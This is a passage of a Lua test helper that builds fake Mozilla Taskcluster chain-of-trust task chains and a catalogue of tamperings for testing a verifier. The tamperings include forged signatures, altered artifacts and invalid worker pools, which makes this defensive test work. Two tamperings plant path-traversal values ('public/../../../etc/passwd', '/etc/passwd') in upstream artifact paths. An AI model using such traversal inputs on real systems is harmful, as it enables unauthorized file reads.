    kind = "build", label = "build-win64/opt" })
  local env = O(repo_env(chain))
  env.MOZ_SCM_LEVEL = "3"
  g.def = task_def(chain, {
    created_ms = created_ms,
    taskGroupId = d.id,
    provisionerId = p.trust .. "-3",
    workerType = "b-win2022",
    dependencies = A({ d.id }),
    scopes = A({ "generic-worker:cache:" .. p.trust .. "-level-3-checkouts" }),
    payload = O({
      command = A({ "C:\\mozilla-build\\python3\\python3.exe run-task -- build.bat" }),
      env = env,
      mounts = A({ O({ cacheName = p.trust .. "-level-3-checkouts", directory = "build" }) }),
      osGroups = A({}),
      maxRunTime = 7200,
      artifacts = A({ O({ type = "file", name = "public/build/target.zip", path = "public/build/target.zip",
        expires = iso(created_ms + YEAR_MS) }) }),
    }),
    metadata = metadata(chain, "build-win64/opt", "taskcluster/kinds/build"),
    tags = O({ kind = "build", label = "build-win64/opt", os = "windows" }),
    extra = O({ treeherder = O({ symbol = "B" }) }),
  })
  g.rel = { { path = { "payload", "artifacts", 1, "expires" }, offset = "1 year" } }
  g.environment = O({})
  g.out = "public/build/target.zip"
  add_artifact(g, g.out, sign.random_bytes(4096))
  return g
end

-- upstreamArtifacts entries for the outputs of `ups` (task records).
local function upstream_entries(root_type, ups)
  local out = A({})
  for _, u in ipairs(ups) do
    local e = O({ taskId = u.id, taskType = u.type, paths = A({ u.out }) })
    if root_type == "signing" then
      e.formats = A({ u.impl == "generic-worker" and "autograph_authenticode_sha2" or "autograph_gpg" })
    else
      e.locale = "en-US"
    end
    out[#out + 1] = e
  end
  return out
end

local function ids_of(recs)
  local out = A({})
  for _, r in ipairs(recs) do
    out[#out + 1] = r.id
  end
  return out
end

-- A scriptworker task of type `ttype` consuming `ups` (the root, or a
-- signing link upstream of it).
local function scriptworker_task(chain, key, ttype, ups, created_ms, scopes, out_name, queue)
  local p = chain.product
  local parent = chain.script_parent
  local s = add_task(chain, { key = key, type = ttype, impl = "scriptworker", group = chain.decision,
    kind = ttype, label = ttype .. "-" .. key, parent = parent })
  local extra = O({ treeherder = O({ symbol = ttype:sub(1, 1):upper() .. "s" }) })
  if parent ~= chain.decision then
    extra.parent = parent.id
  end
  local deps = #ups > 0 and ids_of(ups) or A({ parent.id })
  s.def = task_def(chain, {
    created_ms = created_ms,
    taskGroupId = chain.decision.id,
    provisionerId = queue and queue.provisioner or "scriptworker-k8s",
    workerType = queue and queue.worker_type or (p.trust .. "-3-" .. ttype),
    dependencies = deps,
    scopes = A(scopes),
    payload = O({ maxRunTime = 3600, upstreamArtifacts = upstream_entries(ttype, ups) }),
    metadata = metadata(chain, ttype .. "-" .. key, "taskcluster/kinds/" .. ttype),
    tags = O({ kind = ttype, label = ttype .. "-" .. key }),
    extra = extra,
  })
  s.environment = O({})
  s.out = out_name
  if out_name then
    add_artifact(s, out_name, sign.random_bytes(4096))
    add_artifact(s, "public/logs/chain_of_trust.log", "2026-01-01T00:00:00     INFO - Good.\n")
  end
  return s
end

-- The root's scopes: a restricted one (opts.restricted) or a harmless one.
local function root_scopes(chain, ttype)
  local p = chain.product
  if chain.restricted then
    return { p.restricted_scopes[ttype] or p.restricted_scopes.default }
  end
  return { p.scope_base .. ":" .. ttype .. ":dep" }
end

-- build(opts) -> chain. opts (all optional):
--   product      "firefox" (hg), "mobile", "app-services" (GitHub)
--   root_type    the claimed task's type (signing, beetmover, balrog, ...)
--   parent       "decision" (a push decision), "cron" (a cron decision) or
--                "action" (the root's extra.parent is a release-promotion
--                action task of the push decision)
--   restricted   true: the root carries a restricted scope of the product
--                and the chain comes from a tree allowed for it
--   shape        which upstream links exist:
--     docker_image   a docker-image task the docker-worker builds use
--                    (default true; firefox needs it for docker builds)
--     docker_build   a build on docker-worker (default true)
--     generic_build  a build on generic-worker (default false)
--     signing        a scriptworker signing task between the builds and
--                    the root (default false)
--     old_decision   the docker image comes from an older task graph with
--                    its own decision task (default false)
--     n_extra        that many more l10n links on docker-worker (default 0)
--   graph_tasks  that many more (unrelated) entries in the task graph of
--                the root's parent; written to a file (chain.tmpdir)
--   graph_file   a JSON object file (for instance the 128 MB output of
--                shared/tools/gen-task-graph.py) whose entries go into that
--                same task graph after the chain's own; read, not changed
--   now_ms       the decision's created time (default: a minute ago)
--   root_provisioner, root_worker_type
--                the root's task queue (default scriptworker-k8s/
--                <trust>-3-<root_type>). Chains sharing one Queue should
--                each have their own, so that a worker claims the root it
--                is meant to; a provisioner other than scriptworker-k8s
--                and scriptworker-prov-v1 goes into the config's
--                scriptworker_provisioners (chain:config)
function M.build(opts)
  opts = opts or {}
  local product_name = opts.product or "firefox"
  local p = assert(M.PRODUCTS[product_name], "cot_chain: unknown product " .. tostring(product_name))
  local shape = opts.shape or {}
  local parent_kind = opts.parent or "decision"
  assert(parent_kind == "decision" or parent_kind == "cron" or parent_kind == "action",
    "cot_chain: parent must be decision, cron or action")
  local chain = setmetatable({
    product_name = product_name,
    product = p,
    root_type = opts.root_type or "signing",
    parent_kind = parent_kind,
    restricted = opts.restricted == true,
    shape = shape,
    tasks = {},
    by_key = {},
    mirror = {},
    artifacts = {},
    hooks = { graph = {}, cot = {}, text = {}, post = {} },
    sign_with = {},
    push_counter = 0,
    decision_worker_type = "decision",
    decision_image = "mozillareleases/gecko_decision:5.0.0@sha256:" .. hex_bytes(32),
    graph_tasks = opts.graph_tasks or 0,
    graph_file = opts.graph_file,
    tampered = nil,
  }, Chain)
  if p.kind == "hg" then
    chain.repo = chain.restricted and p.restricted_repo or p.repo
    chain.project = chain.restricted and p.restricted_project or p.project
  else
    chain.repo = p.repo
    chain.project = p.name
  end
  chain.template_text = template_text(chain)
  chain.template = assert(yaml.load(chain.template_text))
  chain.mirror["/projects.yml"] = M.projects_yml()

  local now_ms = opts.now_ms or (math.floor(sched.now() * 1000) - 60000)
  local tasks_for = parent_kind == "cron" and "cron" or (p.kind == "hg" and "hg-push" or "github-push")
  local push_tasks_for = p.kind == "hg" and "hg-push" or "github-push"

  -- an older graph (created ten minutes earlier) holding the docker image
  local old_d, old_di
  if shape.old_decision then
    old_d = add_decision(chain, "old-decision", push_tasks_for, now_ms - 600000)
    chain.rev = old_d.rev
    old_di = docker_image_task(chain, "old-docker-image", old_d, now_ms - 590000, old_d.rev)
  end

  local d = add_decision(chain, "decision", tasks_for, now_ms)
  chain.decision = d
  chain.rev = d.rev
  chain.parameters_text = parameters_text(chain, d)
  d.parameters_text = chain.parameters_text
  if old_d then
    old_d.parameters_text = parameters_text(chain, old_d)
  end

  local t = now_ms + 5000
  local di = old_di
  local docker_build = shape.docker_build ~= false
  local want_image = shape.docker_image
  if want_image == nil then
    want_image = docker_build or (shape.n_extra or 0) > 0
  end
  if not old_di and (want_image or (docker_build and p.kind == "hg")) then
    di = docker_image_task(chain, "docker-image", d, t)
    t = t + 1000
  end
  local ups = {}
  if docker_build then
    ups[#ups + 1] = docker_build_task(chain, "build", "build", "build-linux64/opt", d, di, t,
      "public/build/target.tar.gz")
    t = t + 1000
  end
  if shape.generic_build then
    ups[#ups + 1] = generic_build_task(chain, d, t)
    t = t + 1000
  end
  for i = 1, shape.n_extra or 0 do
    local loc = format("l%02d", i)
    ups[#ups + 1] = docker_build_task(chain, "l10n-" .. i, "l10n", "l10n-linux64-" .. loc .. "/opt", d, di, t,
      "public/build/" .. loc .. "/target.tar.gz")
    t = t + 100
  end

  chain.script_parent = d
  if parent_kind == "action" then
    chain.script_parent = add_action(chain, d, t)
    t = t + 1000
  end
  if shape.signing then
    local s = scriptworker_task(chain, "signing", "signing", ups, t,
      { p.scope_base .. ":signing:cert:dep-signing" }, "public/build/target.tar.gz")
    ups = { s }
    t = t + 1000
  end
  local root = scriptworker_task(chain, "root", chain.root_type, ups, t, root_scopes(chain, chain.root_type), nil,
    { provisioner = opts.root_provisioner, worker_type = opts.root_worker_type })
  chain.root_rec = root
  chain.root = root.def
  chain.root_task_id = root.id
  chain.t_next = t + 1000
  chain:seal()
  return chain
end

-- projects.yml of the generated chains (hg projects and the GitHub ones).
function M.projects_yml()
  return [[
# projects.yml of the chains generated by tests/cot_chain.lua
mozilla-central:
  repo: https://hg.mozilla.org/mozilla-central
  repo_type: hg
  access: scm_level_3
  trust_domain: gecko
mozilla-beta:
  repo: https://hg.mozilla.org/releases/mozilla-beta
  repo_type: hg
  access: scm_level_3
  trust_domain: gecko
try:
  repo: https://hg.mozilla.org/try
  repo_type: hg
  access: scm_level_1
  trust_domain: gecko
reference-browser:
  repo: https://github.com/mozilla-mobile/reference-browser
  repo_type: git
  trust_domain: mobile
  branches:
    - name: main
      level: 3
application-services:
  repo: https://github.com/mozilla/application-services
  repo_type: git
  trust_domain: app-services
  branches:
    - name: main
      level: 3
]]
end

-- Sealing -------------------------------------------------------------------------

-- created + offset as the verifier resolves a relative-datestamp.
local OFFSETS = { ["0 seconds"] = 0, ["1 day"] = DAY_MS, ["1 year"] = YEAR_MS }

-- The task as the decision task writes it in task-graph.json: dates as
-- relative-datestamps, the Queue-only keys left out.
local function graph_task(rec)
  local g = copy(rec.def)
  g.taskQueueId, g.projectId = nil, nil
  g.created = O({ ["relative-datestamp"] = "0 seconds" })
  g.deadline = O({ ["relative-datestamp"] = "1 day" })
  g.expires = O({ ["relative-datestamp"] = "1 year" })
  for _, r in ipairs(rec.rel) do
    local t = g
    for i = 1, #r.path - 1 do
      t = t[r.path[i]]
    end
    if t then
      assert(OFFSETS[r.offset], r.offset)
      t[r.path[#r.path]] = O({ ["relative-datestamp"] = r.offset })
    end
  end
  return g
end

local function graph_entry(rec, by_id)
  local deps = O({})
  for _, id in ipairs(rec.def.dependencies) do
    local dep = by_id[id]
    if dep and dep.label then
      deps[dep.label] = id
    end
  end
  return O({
    attributes = O({ kind = rec.kind or rec.type, build_platform = "linux64", build_type = "opt" }),
    dependencies = deps,
    kind = rec.kind or rec.type,
    label = rec.label or rec.key,
    optimization = null,
    soft_dependencies = A({}),
    task = graph_task(rec),
    task_id = rec.id,
  })
end

-- A fake but realistic task graph entry for the big-graph benchmark.
local function filler_entry(chain, i, created_ms)
  local id = slugid.nice()
  local label = format("test-linux64/opt-mochitest-browser-chrome-%d", i)
  local p = chain.product
  local def = O({
    provisionerId = p.trust .. "-t",
    workerType = "t-linux-large",
    schedulerId = p.trust .. "-level-3",
    taskGroupId = chain.decision.id,
    dependencies = A({ chain.decision.id }),
    requires = "all-completed",
    routes = A({ "tc-treeherder.v2." .. chain.project .. "." .. chain.rev }),
    priority = "lowest",
    retries = 5,
    created = O({ ["relative-datestamp"] = "0 seconds" }),
    deadline = O({ ["relative-datestamp"] = "1 day" }),
    expires = O({ ["relative-datestamp"] = "1 year" }),
    scopes = A({ "secrets:get:project/taskcluster/gecko/hgfingerprint" }),
    payload = O({
      image = O({ type = "task-image", taskId = id, path = M.IMAGE_PATH }),
      env = O({ MOZHARNESS_SCRIPT = "desktop_unittest.py", TEST_CHUNK = tostring(i) }),
      command = A({ "/builds/worker/bin/run-task", "--", "/builds/worker/bin/test-linux.sh",
        "--test-suite=mochitest-browser-chrome", "--this-chunk=" .. i, "--total-chunk=" .. created_ms % 97 }),
      maxRunTime = 5400,
      features = O({ taskclusterProxy = true }),
    }),
    metadata = O({ name = label, description = "generated filler", owner = "release@mozilla.com",
      source = source_of(chain, "taskcluster/kinds/test") }),
    tags = O({ kind = "test", label = label }),
    extra = O({ treeherder = O({ symbol = "M-bc" .. i }) }),
  })
  return id, O({ attributes = O({ kind = "test" }), dependencies = O({}), kind = "test", label = label,
    optimization = null, soft_dependencies = A({}), task = def, task_id = id })
end

-- Whether the root's parent has a file-backed task graph.
local function big_graph(chain)
  return chain.graph_tasks > 0 or chain.graph_file ~= nil
end

-- The entries of opts.graph_file: {path, first, last}, the byte range
-- between the braces of its top-level object.
local function graph_file_range(path)
  local f = assert(io.open(path, "rb"))
  local size = assert(f:seek("end"))
  assert(f:seek("set", 0))
  local head = assert(f:read(math.min(size, 4096)), "cot_chain: graph_file " .. path .. " is empty")
  local open = head:find("^%s*{")
  assert(open, "cot_chain: graph_file " .. path .. ": expected a JSON object")
  open = head:find("{", 1, true)
  local tail_len = math.min(size, 4096)
  assert(f:seek("set", size - tail_len))
  local tail = assert(f:read(tail_len))
  f:close()
  local close = tail:match("()}%s*$")
  assert(close, "cot_chain: graph_file " .. path .. ": expected a JSON object")
  return { path = path, first = open + 1, last = size - tail_len + close - 1 }
end

-- The filler entries as JSON text ("\"id\": {...}" joined with ",\n"):
-- {path, first, last} (a byte range of a file, 1-based and inclusive),
-- made once per chain and kept in a file, or the range of opts.graph_file.
local function filler_file(chain)
  if chain.filler_path then
    return chain.filler_path
  end
  if chain.graph_file then
    chain.filler_path = graph_file_range(chain.graph_file)
    return chain.filler_path
  end
  chain.tmpdir = chain.tmpdir or support.tmpdir()
  local path = chain.tmpdir .. "/filler.json.part"
  local f = assert(io.open(path, "wb"))
  for i = 1, chain.graph_tasks do
    local id, entry = filler_entry(chain, i, chain.decision.created_ms)
    assert(f:write(i > 1 and ",\n" or "", encode(id), ": ", encode(entry, { sort_keys = true })))
  end
  assert(f:close())
  chain.filler_path = { path = path, first = 1, last = assert(fs.stat(path)).size }
  return chain.filler_path
end

-- The task-graph.json artifact of parent `holder`: its members, then the
-- filler (in a file) when this is the root's parent and graph_tasks > 0.
local function graph_artifact(chain, holder, graph)
  if not big_graph(chain) or holder ~= chain.root_rec.parent then
    return encode(graph, { indent = 2, sort_keys = true })
  end
  local filler = filler_file(chain)
  chain.tmpdir = chain.tmpdir or support.tmpdir()
  local path = chain.tmpdir .. "/task-graph-" .. holder.id .. ".json"
  local out = assert(io.open(path, "wb"))
  local text = encode(graph, { sort_keys = true })
  -- the members' object without its closing brace, then the filler
  assert(out:write(text:sub(1, -2), next(graph) and ",\n" or "\n"))
  local inp = assert(io.open(filler.path, "rb"))
  assert(inp:seek("set", filler.first - 1))
  local left = filler.last - filler.first + 1
  while left > 0 do
    local block = inp:read(math.min(left, 1 << 20))
    if not block then
      break
    end
    assert(out:write(block))
    left = left - #block
  end
  inp:close()
  assert(left == 0, "cot_chain: " .. filler.path .. " is shorter than it was")
  assert(out:write("\n}"))
  assert(out:close())
  return { path = path }
end

local function artifact_digest(bytes)
  if type(bytes) == "table" then
    return assert(hash.file(bytes.path, "sha256"))
  end
  return sha256(bytes)
end

-- seal(): derives graphs, parent artifacts, chain-of-trust bodies and
-- signatures from the model, then applies the tampering hooks.
function Chain:seal()
  local by_id = {}
  for _, rec in ipairs(self.tasks) do
    by_id[rec.id] = rec
  end
  -- the root's parent is the action when there is one
  for _, rec in ipairs(self.tasks) do
    if rec.group and not rec.parent then
      rec.parent = rec.group
    end
  end
  self.artifacts = {}
  self.cot = {}
  self.graphs = {}
  for _, rec in ipairs(self.tasks) do
    local arts = {}
    self.artifacts[rec.id] = arts
    if rec.is_parent then
      local graph = O({})
      for _, member in ipairs(self.tasks) do
        if member.parent == rec then
          graph[member.id] = graph_entry(member, by_id)
        end
      end
      for _, h in ipairs(self.hooks.graph) do
        h(self, rec, graph)
      end
      self.graphs[rec.id] = graph
      arts["public/task-graph.json"] = graph_artifact(self, rec, graph)
      if rec.type == "decision" then
        arts["public/actions.json"] = M.actions_text(self, rec)
      end
      arts["public/parameters.yml"] = rec.parameters_text or self.parameters_text
    end
    for _, a in ipairs(rec.artifacts) do
      arts[a.name] = a.bytes
    end
    if rec ~= self.root_rec then
      arts["public/logs/live_backing.log"] = log_text(rec)
    end
  end
  for _, rec in ipairs(self.tasks) do
    if rec ~= self.root_rec then
      if not rec.worker_id then
        worker_identity(rec)
      end
      local arts = self.artifacts[rec.id]
      local digests = O({})
      for name, bytes in pairs(arts) do
        digests[name] = O({ sha256 = artifact_digest(bytes) })
      end
      local body = O({
        artifacts = digests,
        chainOfTrustVersion = 1,
        environment = copy(rec.environment or O({})),
        runId = 0,
        task = copy(rec.def),
        taskId = rec.id,
        workerGroup = rec.worker_group,
        workerId = rec.worker_id,
        workerType = rec.def.workerType,
      })
      for _, h in ipairs(self.hooks.cot) do
        h(self, rec, body)
      end
      local text = canonical(body)
      for _, h in ipairs(self.hooks.text) do
        text = h(self, rec, text) or text
      end
      self.cot[rec.id] = body
      arts[M.COT_NAME] = text
      arts[M.SIG_NAME] = signer(self.sign_with[rec.id] or rec.impl):sign(text)
    end
  end
  for _, h in ipairs(self.hooks.post) do
    h(self)
  end
  return self
end

-- Accessors --------------------------------------------------------------------

-- The task record of `key` ("decision", "action", "docker-image", "build",
-- "generic-build", "signing", "l10n-N", "old-decision", "old-docker-image",
-- "root", "deep-N").
function Chain:task(key)
  return self.by_key[key]
end

-- The links a verifier meets, as {key, id, type, impl, def}: every task
-- but the root.
function Chain:links()
  local out = {}
  for _, rec in ipairs(self.tasks) do
    if rec ~= self.root_rec then
      out[#out + 1] = rec
    end
  end
  return out
end

-- The bytes of an artifact (reading a file-backed one).
function Chain:artifact(task_id, name)
  local a = self.artifacts[task_id] and self.artifacts[task_id][name]
  if type(a) == "table" then
    return support.read(a.path)
  end
  return a
end

-- inputs for sw.cot.v2 served from this chain: fetch_text maps a URL under
-- `mirror` back to a mirror path; fetch_artifact reads chain.artifacts.
function Chain:v2_inputs(mirror)
  local chain = self
  return {
    urls = { hg = mirror .. "/hg", github_raw = mirror .. "/github_raw", github_api = mirror .. "/github_api" },
    fetch_text = function(url)
      if url:sub(1, #mirror + 1) ~= mirror .. "/" then
        return nil, "not under the mirror: " .. url
      end
      local body = chain.mirror[url:sub(#mirror + 1)]
      if body == nil then
        return nil, "HTTP 404"
      end
      return body
    end,
    fetch_artifact = function(task_id, name)
      local body = chain:artifact(task_id, name)
      if body == nil then
        return nil, "HTTP 404"
      end
      return body
    end,
  }
end

-- Loading into the Queue emulator -------------------------------------------------

local function upload_options(rec, name, bytes)
  local ctype, enc = mime.guess(name)
  if name:match("%.ya?ml$") then
    ctype, enc = "text/plain", nil
  end
  -- docker-worker and scriptworker gzip text artifacts on upload;
  -- generic-worker uploads them as they are
  if rec.impl ~= "generic-worker" and (mime.should_gzip(ctype, enc) or ctype == "text/plain") then
    return fs.gzip_string(bytes), { content_type = ctype, content_encoding = "gzip" }
  end
  return bytes, { content_type = ctype }
end

-- load(fx): creates every task (in dependency order), uploads the
-- artifacts, completes every task but the root (which stays pending for the
-- worker to claim), and serves the mirror files.
function Chain:load(fx)
  for path, bytes in pairs(self.mirror) do
    fx:put_mirror(path, bytes)
  end
  for _, rec in ipairs(self.tasks) do
    local id = fx:create_task(copy(rec.def), rec.id)
    assert(id == rec.id, "cot_chain: the Queue created " .. tostring(id) .. " for " .. rec.id)
    if rec ~= self.root_rec then
      local names = {}
      for name in pairs(self.artifacts[rec.id]) do
        names[#names + 1] = name
      end
      table.sort(names)
      for _, name in ipairs(names) do
        local bytes, o = upload_options(rec, name, self:artifact(rec.id, name))
        fx:put_artifact(rec.id, 0, name, bytes, o)
      end
      fx:complete_task(rec.id, { workerGroup = rec.worker_group, workerId = rec.worker_id })
    end
  end
  return self
end

-- config(fx) -> the config overrides the engine needs for this chain.
-- (Not served through config: is_pull_request's "landed" page, which the
-- mirror has at /github/<owner>/<name>/branch_commits/<rev>.)
function Chain:config(fx)
  local root_url = fx.root_url
  local netloc = assert(root_url:match("^https?://([^/]+)"), "cot_chain: bad root URL " .. tostring(root_url))
  local scheme = root_url:match("^(https?)://")
  local mirror = fx:mirror_url()
  local provisioners = A({ "scriptworker-prov-v1", "scriptworker-k8s" })
  if self.root.provisionerId ~= "scriptworker-prov-v1" and self.root.provisionerId ~= "scriptworker-k8s" then
    provisioners[#provisioners + 1] = self.root.provisionerId
  end
  return {
    cot_product = self.product_name,
    cot_job_type = self.root_type,
    verify_chain_of_trust = true,
    verify_cot_signature = true,
    cot_input_urls = {
      hg = mirror .. "/hg",
      github_raw = mirror .. "/github_raw",
      github_api = mirror .. "/github_api",
    },
    project_configuration_url = mirror .. "/projects.yml",
    ed25519_public_keys = M.public_keys(),
    valid_artifact_rules = A({ O({
      schemes = A({ scheme }),
      netlocs = A({ netloc }),
      path_regexes = A({ M.ARTIFACT_PATH_REGEX }),
    }) }),
    taskcluster_root_url = root_url,
    -- the worker claims the root from the root's own queue
    provisioner_id = self.root.provisionerId,
    worker_type = self.root.workerType,
    scriptworker_provisioners = provisioners,
  }
end

-- Removes the files of a big graph.
function Chain:cleanup()
  if self.tmpdir then
    os.execute("rm -rf '" .. self.tmpdir .. "'")
    self.tmpdir, self.filler_path = nil, nil
  end
end

-- Tamperings ----------------------------------------------------------------------

-- The record a tampering aims at: `key` if given, else the first of `keys`
-- present in the chain.
local function target(chain, key, keys, why)
  if key then
    return assert(chain.by_key[key], "cot_chain: no task " .. tostring(key) .. " in this chain")
  end
  for _, k in ipairs(keys) do
    if chain.by_key[k] then
      return chain.by_key[k]
    end
  end
  error("cot_chain: this chain has no task to tamper with (" .. why .. ")", 0)
end

local LINKS = { "build", "generic-build", "signing", "docker-image", "l10n-1", "decision" }
local DOCKER_BUILDS = { "build", "l10n-1" }

local function add_hook(chain, kind, fn)
  table.insert(chain.hooks[kind], fn)
end

-- Re-renders decision-like tasks (after a template change).
local function rerender(chain)
  chain.template = assert(yaml.load(chain.template_text))
  for _, rec in ipairs(chain.tasks) do
    if rec.render then
      local rev = rec.rev or chain.decision.rev
      serve_template(chain, rev)
      rec.def = rec.render()
    end
  end
end

local function cot_of(chain, rec, fn)
  add_hook(chain, "cot", function(_, r, body)
    if r == rec then
      fn(body)
    end
  end)
end

-- Each entry: catalogue = the VERIFY.md entries it produces, check = what
-- must catch it, opts = build options of a chain it applies to (when the
-- default chain will not do), fn(chain, arg) = the change. `arg` is usually the key of
-- the task aimed at (see Chain:task). Tamperings marked "stricter" pass the
-- Python worker (a documented quirk) and must fail this engine.
M.TAMPERINGS = {
  body_edited_after_signing = {
    catalogue = { 15 }, check = "signature of the link's chain-of-trust.json (phase 3)",
    -- a digest of the body is changed after signing: still valid JSON
    fn = function(chain, arg)
      local rec = target(chain, arg, LINKS, "a link")
      add_hook(chain, "post", function(c)
        local arts = c.artifacts[rec.id]
        arts[M.COT_NAME] = arts[M.COT_NAME]:gsub('"sha256": "%x+"', '"sha256": "' .. string.rep("0", 64) .. '"', 1)
      end)
      return rec
    end,
  },
  signed_by_wrong_key = {
    catalogue = { 15 }, check = "signature: no key of the link's worker implementation verifies (phase 3)",
    fn = function(chain, arg)
      local rec = target(chain, arg, LINKS, "a link")
      chain.sign_with[rec.id] = rec.impl == "scriptworker" and "docker-worker" or "scriptworker"
      return rec
    end,
  },
  sig_missing = {
    catalogue = { 12 }, check = "download of public/chain-of-trust.json.sig (phase 2)",
    fn = function(chain, arg)
      local rec = target(chain, arg, LINKS, "a link")
      add_hook(chain, "post", function(c)
        c.artifacts[rec.id][M.SIG_NAME] = nil
      end)
      return rec
    end,
  },
  cot_missing = {
    catalogue = { 11 }, check = "download of public/chain-of-trust.json (phase 2)",
    fn = function(chain, arg)
      local rec = target(chain, arg, LINKS, "a link")
      add_hook(chain, "post", function(c)
        c.artifacts[rec.id][M.COT_NAME] = nil
      end)
      return rec
    end,
  },
  cot_not_json = {
    catalogue = { 18 }, check = "parsing the signed body (phase 3; the signature is good)",
    fn = function(chain, arg)
      local rec = target(chain, arg, LINKS, "a link")
      add_hook(chain, "text", function(_, r, text)
        if r == rec then
          return text:sub(1, -2) .. ",\n  oops\n}"
        end
      end)
      return rec
    end,
  },
  cot_task_id_mismatch = {
    catalogue = { 19 }, check = "body taskId equals the link's taskId (phase 3; signed)",
    fn = function(chain, arg)
      local rec = target(chain, arg, LINKS, "a link")
      cot_of(chain, rec, function(body)
        body.taskId = chain.decision.id ~= rec.id and chain.decision.id or chain.root_task_id
      end)
      return rec
    end,
  },
  cot_task_differs = {
    catalogue = {}, check = "stricter: embedded task equals the Queue's definition (VERIFY.md 3 quirk; signed)",
    fn = function(chain, arg)
      local rec = target(chain, arg, LINKS, "a link")
      cot_of(chain, rec, function(body)
        body.task.payload.maxRunTime = 1
      end)
      return rec
    end,
  },
  cot_schema_invalid = {
    catalogue = {}, check = "stricter: body validates against cot_v1_schema.json (VERIFY.md 3 quirk; signed)",
    -- environment missing and runId a string: still valid JSON, right taskId
    fn = function(chain, arg)
      local rec = target(chain, arg, LINKS, "a link")
      cot_of(chain, rec, function(body)
        body.environment = nil
        body.runId = "0"
      end)
      return rec
    end,
  },
  artifact_bytes_changed = {
    catalogue = { 23 }, check = "digest of a downloaded upstream artifact (phase 4; CoT signature good)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "signing", "l10n-1" }, "an upstream artifact")
      local out = assert(rec.out, "cot_chain: " .. rec.key .. " has no output artifact")
      add_hook(chain, "post", function(c)
        local b = c.artifacts[rec.id][out]
        c.artifacts[rec.id][out] = string.char((b:byte(1) + 1) % 256) .. b:sub(2)
      end)
      return rec
    end,
  },
  artifact_missing_from_cot = {
    catalogue = { 21 }, check = "an upstream path must be a key of the link's CoT artifacts (phase 4; signed)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "signing", "l10n-1" }, "an upstream artifact")
      cot_of(chain, rec, function(body)
        body.artifacts[rec.out] = nil
      end)
      return rec
    end,
  },
  hash_alg_unknown = {
    catalogue = { 22 }, check = "hash algorithm in valid_hash_algorithms (phase 4; signed)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "signing", "l10n-1" }, "an upstream artifact")
      cot_of(chain, rec, function(body)
        body.artifacts[rec.out] = O({ md5 = hex_bytes(16) })
      end)
      return rec
    end,
  },
  hash_empty_map = {
    catalogue = { 23 }, check = "stricter: at least one allowed hash per artifact (VERIFY.md 4 quirk; signed)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "build", "generic-build", "signing", "l10n-1" }, "an upstream artifact")
      cot_of(chain, rec, function(body)
        body.artifacts[rec.out] = O({})
      end)
      return rec
    end,
  },
  upstream_path_dotdot = {
    catalogue = { 1 }, check = "claim-time upstreamArtifacts path check (root in the graph as changed)",
    fn = function(chain)
      local ua = chain.root.payload.upstreamArtifacts
      assert(#ua > 0, "cot_chain: the root has no upstreamArtifacts")
      ua[1].paths[1] = "public/../../../etc/passwd"
      return chain.root_rec
    end,
  },
  upstream_path_absolute = {
    catalogue = { 1 }, check = "claim-time upstreamArtifacts path check",
    fn = function(chain)
      local ua = chain.root.payload.upstreamArtifacts
      assert(#ua > 0, "cot_chain: the root has no upstreamArtifacts")
      ua[1].paths[1] = "/etc/passwd"
      return chain.root_rec
    end,
  },
  upstream_wildcard_mandatory = {
    catalogue = { 2 }, check = "claim-time check: `*` only in optional upstreamArtifacts entries",
    fn = function(chain)
      local ua = chain.root.payload.upstreamArtifacts
      assert(#ua > 0, "cot_chain: the root has no upstreamArtifacts")
      ua[1].paths[1] = "public/build/*"
      return chain.root_rec
    end,
  },
  decision_pool_invalid = {
    catalogue = { 29 }, check = "decision/action pool in valid_decision_worker_pools (phase 5; v2 still passes)",
    -- the repository's .taskcluster.yml itself names another pool, so the
    -- json-e rebuild matches (an action of this chain is rendered from the
    -- same template and lands in that pool too)
    fn = function(chain)
      chain.decision_worker_type = "b-linux"
      chain.template_text = template_text(chain)
      rerender(chain)
      return chain.decision
    end,
  },
  docker_image_pool_invalid = {
    catalogue = { 28 }, check = "docker-image pool in valid_docker_image_worker_pools (phase 5)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "docker-image", "old-docker-image" }, "a docker-image task")
      rec.def.workerType = "b-linux"
      rec.def.taskQueueId = rec.def.provisionerId .. "/b-linux"
      return rec
    end,
  },
  scriptworker_type_on_docker_worker = {
    opts = { shape = { signing = true } },
    catalogue = { 27 }, check = "signing/beetmover/... task types must run on scriptworker (phase 5)",
    -- the signing link (or the root) runs on docker-worker with a proper
    -- task image, so only the task-type rule is broken
    fn = function(chain, arg)
      local rec = target(chain, arg, { "signing", "root" }, "a scriptworker task")
      local di = chain.by_key["docker-image"] or chain.by_key["old-docker-image"]
      local def = rec.def
      def.provisionerId, def.workerType = chain.product.trust .. "-3", "b-linux"
      def.taskQueueId = def.provisionerId .. "/" .. def.workerType
      def.payload.env = O(repo_env(chain))
      def.payload.features = O({ chainOfTrust = true })
      if di then
        def.payload.image = O({ type = "task-image", taskId = di.id, path = M.IMAGE_PATH })
        def.extra.chainOfTrust = O({ inputs = O({ ["docker-image"] = di.id }) })
        rec.environment = O({ imageArtifactHash = "sha256:" .. sha256(di.image_bytes) })
      else
        assert(chain.product.kind == "github", "cot_chain: firefox needs a docker-image task here")
        def.payload.image = "mozillareleases/build:1.0@sha256:" .. hex_bytes(32)
      end
      rec.impl = "docker-worker"
      rec.worker_id = nil
      return rec
    end,
  },
  worker_impl_ambiguous = {
    catalogue = { 10 }, check = "guess_worker_impl: image + osGroups (phase 1)",
    fn = function(chain, arg)
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      rec.def.payload.osGroups = A({})
      return rec
    end,
  },
  worker_impl_none = {
    catalogue = { 9 }, check = "guess_worker_impl: no candidate (phase 1)",
    -- no image, no docker-worker scope, no mounts/osGroups, no tag
    fn = function(chain, arg)
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      rec.def.payload.image = nil
      rec.def.scopes = A({})
      return rec
    end,
  },
  interactive_docker_task = {
    catalogue = { 50 }, check = "docker-worker: payload.features.interactive (phase 6)",
    fn = function(chain, arg)
      local rec = target(chain, arg, DOCKER_BUILDS, "a docker-worker build")
      rec.def.payload.features.interactive = true
      return rec
    end,
  },
  rdp_generic_task = {
    opts = { shape = { generic_build = true } },
    catalogue = { 61 }, check = "generic-worker: payload.rdpInfo (phase 6)",
    fn = function(chain, arg)
      local rec = target(chain, arg, { "generic-build" }, "shape.generic_build")
